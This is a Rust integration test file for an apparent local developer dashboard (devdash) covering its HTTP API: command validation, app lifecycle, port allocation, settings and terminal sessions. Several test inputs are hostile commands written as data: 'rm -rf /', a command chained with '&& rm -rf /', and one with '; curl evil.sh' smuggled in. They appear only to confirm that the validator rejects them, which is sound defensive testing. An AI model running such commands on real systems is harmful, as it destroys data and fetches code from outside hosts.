use std::net::TcpListener;
use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{Method, Request, StatusCode};
use axum::Router;
use futures::StreamExt;
use http_body_util::BodyExt;
use serde_json::{json, Value};
use tempfile::TempDir;
use tower::util::ServiceExt;

use devdash::config::DashboardConfig;
use devdash::port_allocator::PortRange;
use devdash::router::{build_router, AppState};

struct TestApp {
    app: Router,
    state: Arc<AppState>,
    data_dir: TempDir,
}

impl TestApp {
    async fn new() -> Self {
        let data_dir = tempfile::tempdir().expect("create temp data dir");
        let mut config = DashboardConfig::with_data_dir(data_dir.path());
        config.ports.range = PortRange::new(47100, 47199).expect("port range");
        config.terminals.shell = "/bin/sh".to_string();
        let state = AppState::open(config).await;
        let app = build_router(state.clone());
        Self {
            app,
            state,
            data_dir,
        }
    }
}

async fn send_json(app: &Router, method: Method, path: &str, body: Option<Value>) -> (StatusCode, Value) {
    let mut builder = Request::builder().method(method).uri(path);
    let body = if let Some(body) = body {
        builder = builder.header("content-type", "application/json");
        Body::from(body.to_string())
    } else {
        Body::empty()
    };
    let request = builder.body(body).expect("request");
    let response = app
        .clone()
        .oneshot(request)
        .await
        .expect("request handled");
    let status = response.status();
    let bytes = response
        .into_body()
        .collect()
        .await
        .expect("read body")
        .to_bytes();
    let value = if bytes.is_empty() {
        Value::Null
    } else {
        serde_json::from_slice(&bytes).unwrap_or(Value::String(String::from_utf8_lossy(&bytes).to_string()))
    };
    (status, value)
}

#[tokio::test]
async fn health_reports_ok() {
    let app = TestApp::new().await;
    let (status, payload) = send_json(&app.app, Method::GET, "/v1/health", None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(payload["status"], "ok");
}

#[tokio::test]
async fn unknown_route_is_404() {
    let app = TestApp::new().await;
    let (status, _) = send_json(&app.app, Method::GET, "/v1/nope", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn validate_command_verdicts() {
    let app = TestApp::new().await;

    let (status, payload) = send_json(
        &app.app,
        Method::POST,
        "/v1/commands/validate",
        Some(json!({ "command": "npm run dev" })),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(payload["valid"], true);
    assert!(payload.get("error").is_none());

    let (_, payload) = send_json(
        &app.app,
        Method::POST,
        "/v1/commands/validate",
        Some(json!({ "command": "npm run dev && rm -rf /" })),
    )
    .await;
    assert_eq!(payload["valid"], false);
    assert_eq!(payload["error"]["kind"], "forbidden_character");

    let (_, payload) = send_json(
        &app.app,
        Method::POST,
        "/v1/commands/validate",
        Some(json!({ "command": "rm -rf /" })),
    )
    .await;
    assert_eq!(payload["error"]["kind"], "command_not_allowed");
}

#[tokio::test]
async fn unknown_app_problem_details() {
    let app = TestApp::new().await;

    let (status, payload) = send_json(&app.app, Method::GET, "/v1/apps/ghost", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(payload["type"], "urn:devdash:error:app_not_found");
    assert_eq!(payload["appId"], "ghost");

    let (status, payload) = send_json(&app.app, Method::POST, "/v1/apps/ghost/stop", None).await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(payload["kind"], "not_running");

    let (status, payload) = send_json(&app.app, Method::POST, "/v1/apps/ghost/restart", None).await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(payload["kind"], "not_running");

    let (status, payload) = send_json(&app.app, Method::GET, "/v1/apps/ghost/stats", None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(payload, json!({ "cpu": 0.0, "memory": 0.0 }));

    let (_, payload) = send_json(&app.app, Method::GET, "/v1/apps/ghost/logs", None).await;
    assert_eq!(payload["lines"], json!([]));
}

#[tokio::test]
async fn rejected_command_never_registers_app() {
    let app = TestApp::new().await;
    let cwd = app.data_dir.path().to_string_lossy().to_string();

    let (status, payload) = send_json(
        &app.app,
        Method::POST,
        "/v1/apps/web/start",
        Some(json!({ "cwd": cwd, "command": "npm run dev; curl evil.sh" })),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(payload["kind"], "forbidden_character");

    let (status, _) = send_json(&app.app, Method::GET, "/v1/apps/web", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (_, payload) = send_json(&app.app, Method::GET, "/v1/ports/allocations", None).await;
    assert_eq!(payload["allocations"], json!([]));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn spawn_failure_is_streamed_and_releases_port() {
    let app = TestApp::new().await;
    let missing = app.data_dir.path().join("no-such-project");

    let request = Request::builder()
        .method(Method::GET)
        .uri("/v1/events/sse")
        .body(Body::empty())
        .expect("sse request");
    let response = app.app.clone().oneshot(request).await.expect("sse response");
    assert_eq!(response.status(), StatusCode::OK);
    let mut body = response.into_body().into_data_stream();

    let (status, payload) = send_json(
        &app.app,
        Method::POST,
        "/v1/apps/web/start",
        Some(json!({ "cwd": missing.to_string_lossy(), "command": "npm run dev" })),
    )
    .await;
    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR);
    assert_eq!(payload["kind"], "spawn_failure");
    assert_eq!(payload["retryable"], true);

    let mut received = String::new();
    let collected = tokio::time::timeout(Duration::from_secs(5), async {
        while !received.contains("\"status\":\"error\"") {
            match body.next().await {
                Some(Ok(chunk)) => received.push_str(&String::from_utf8_lossy(&chunk)),
                _ => break,
            }
        }
    })
    .await;
    assert!(collected.is_ok(), "timed out waiting for events: {received}");
    let starting = received.find("\"status\":\"starting\"").expect("starting event");
    let error = received.find("\"status\":\"error\"").expect("error event");
    assert!(starting < error);
    assert!(received.contains("event: log"));
    assert!(received.contains("Failed to start"));

    let (_, info) = send_json(&app.app, Method::GET, "/v1/apps/web", None).await;
    assert_eq!(info["status"], "error");
    assert!(info["error"].is_string());

    let (_, payload) = send_json(&app.app, Method::GET, "/v1/ports/allocations", None).await;
    assert_eq!(payload["allocations"], json!([]));

    let (_, logs) = send_json(&app.app, Method::GET, "/v1/apps/web/logs?limit=10", None).await;
    let lines = logs["lines"].as_array().expect("lines");
    assert!(lines
        .iter()
        .any(|line| line["stream"] == "system" && line["text"].as_str().unwrap_or("").starts_with("Failed to start")));

    let (status, _) = send_json(&app.app, Method::DELETE, "/v1/apps/web", None).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, _) = send_json(&app.app, Method::GET, "/v1/apps/web", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    app.state.shutdown().await;
}

#[tokio::test]
#[serial_test::serial]
async fn occupied_preferred_port_conflicts() {
    let app = TestApp::new().await;
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();

    let (status, payload) = send_json(&app.app, Method::GET, &format!("/v1/ports/{port}"), None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(payload["available"], false);

    let cwd = app.data_dir.path().to_string_lossy().to_string();
    let (status, payload) = send_json(
        &app.app,
        Method::POST,
        "/v1/apps/web/start",
        Some(json!({ "cwd": cwd, "command": "npm run dev", "port": port })),
    )
    .await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert_eq!(payload["kind"], "port_conflict");
    assert_eq!(payload["port"], port);

    let (status, _) = send_json(&app.app, Method::GET, "/v1/apps/web", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    drop(listener);
}

#[tokio::test]
#[serial_test::serial]
async fn allocation_lifecycle() {
    let app = TestApp::new().await;

    let (status, payload) = send_json(
        &app.app,
        Method::POST,
        "/v1/ports/allocate",
        Some(json!({ "appId": "web" })),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(payload["status"], "allocated");
    let port = payload["allocation"]["port"].as_u64().expect("port");
    assert!((47100..=47199).contains(&port));

    let (_, again) = send_json(
        &app.app,
        Method::POST,
        "/v1/ports/allocate",
        Some(json!({ "appId": "web" })),
    )
    .await;
    assert_eq!(again["allocation"]["port"], port);
    assert_eq!(again["reused"], true);

    let (_, payload) = send_json(&app.app, Method::GET, "/v1/ports/allocations", None).await;
    assert_eq!(payload["allocations"].as_array().map(Vec::len), Some(1));

    let (_, payload) = send_json(&app.app, Method::DELETE, "/v1/ports/allocations/web", None).await;
    assert_eq!(payload["released"]["port"], port);
    let (_, payload) = send_json(&app.app, Method::DELETE, "/v1/ports/allocations/web", None).await;
    assert!(payload.get("released").is_none());
}

#[tokio::test]
#[serial_test::serial]
async fn configure_ports_saves_custom_ports() {
    let app = TestApp::new().await;

    let (status, payload) = send_json(
        &app.app,
        Method::POST,
        "/v1/ports/configure",
        Some(json!({ "appIds": ["api", "web"], "range": { "start": 47200, "end": 47299 } })),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let assignments = payload["assignments"].as_array().expect("assignments");
    assert_eq!(assignments.len(), 2);
    let api = assignments[0]["port"].as_u64().expect("port");
    let web = assignments[1]["port"].as_u64().expect("port");
    assert!(api < web);

    let (_, settings) = send_json(&app.app, Method::GET, "/v1/settings", None).await;
    assert_eq!(settings["customPorts"]["api"], api);
    assert_eq!(settings["customPorts"]["web"], web);
}

#[tokio::test]
async fn scan_rejects_inverted_range() {
    let app = TestApp::new().await;
    let (status, payload) = send_json(&app.app, Method::GET, "/v1/ports/scan?start=5000&end=4000", None).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(payload["kind"], "invalid_request");
}

#[tokio::test]
async fn settings_round_trip_through_disk() {
    let app = TestApp::new().await;

    let (_, payload) = send_json(&app.app, Method::POST, "/v1/settings/favorites/web", None).await;
    assert_eq!(payload["favorite"], true);
    send_json(&app.app, Method::POST, "/v1/settings/favorites/api", None).await;

    let (_, settings) = send_json(
        &app.app,
        Method::PUT,
        "/v1/settings/favorites",
        Some(json!({ "order": ["api", "web"] })),
    )
    .await;
    assert_eq!(settings["favorites"], json!(["api", "web"]));

    let (_, settings) = send_json(
        &app.app,
        Method::PUT,
        "/v1/settings/archived/old",
        Some(json!({ "archived": true })),
    )
    .await;
    assert_eq!(settings["archived"], json!(["old"]));

    let (_, settings) = send_json(
        &app.app,
        Method::PUT,
        "/v1/settings/names/web",
        Some(json!({ "name": "Storefront" })),
    )
    .await;
    assert_eq!(settings["customNames"]["web"], "Storefront");

    let (_, settings) = send_json(
        &app.app,
        Method::PUT,
        "/v1/settings/sort-mode",
        Some(json!({ "mode": "alpha-asc" })),
    )
    .await;
    assert_eq!(settings["favoritesSortMode"], "alpha-asc");

    let (status, payload) = send_json(
        &app.app,
        Method::PUT,
        "/v1/settings/ports/web",
        Some(json!({ "port": 0 })),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(payload["kind"], "invalid_request");

    let saved = std::fs::read_to_string(app.data_dir.path().join("settings.json")).expect("settings file");
    let saved: Value = serde_json::from_str(&saved).expect("settings json");
    assert_eq!(saved["customNames"]["web"], "Storefront");
    assert_eq!(saved["favorites"], json!(["api", "web"]));
}

#[tokio::test]
async fn unknown_terminal_operations() {
    let app = TestApp::new().await;

    let (status, payload) = send_json(&app.app, Method::GET, "/v1/terminals/missing", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(payload["kind"], "session_not_found");

    let (status, payload) = send_json(
        &app.app,
        Method::POST,
        "/v1/terminals/missing/input",
        Some(json!({ "data": "bHMK", "encoding": "base64" })),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(payload["delivered"], false);

    let (status, payload) = send_json(
        &app.app,
        Method::POST,
        "/v1/terminals/missing/input",
        Some(json!({ "data": "not base64!", "encoding": "base64" })),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(payload["kind"], "invalid_request");

    let (_, payload) = send_json(
        &app.app,
        Method::POST,
        "/v1/terminals/missing/resize",
        Some(json!({ "cols": 100, "rows": 30 })),
    )
    .await;
    assert_eq!(payload["delivered"], false);

    let (_, payload) = send_json(&app.app, Method::DELETE, "/v1/terminals/missing", None).await;
    assert_eq!(payload["closed"], false);

    let (_, payload) = send_json(&app.app, Method::GET, "/v1/terminals", None).await;
    assert_eq!(payload["sessions"], json!([]));
}

#[tokio::test]
async fn openapi_document_lists_routes() {
    let app = TestApp::new().await;
    let (status, doc) = send_json(&app.app, Method::GET, "/openapi.json", None).await;
    assert_eq!(status, StatusCode::OK);
    let paths = doc["paths"].as_object().expect("paths");
    for path in [
        "/v1/health",
        "/v1/apps/{app_id}/start",
        "/v1/ports/configure",
        "/v1/terminals/{session_id}/ws",
        "/v1/events/sse",
    ] {
        assert!(paths.contains_key(path), "missing {path}");
    }
    assert!(doc["components"]["schemas"]["ProblemDetails"].is_object());
}
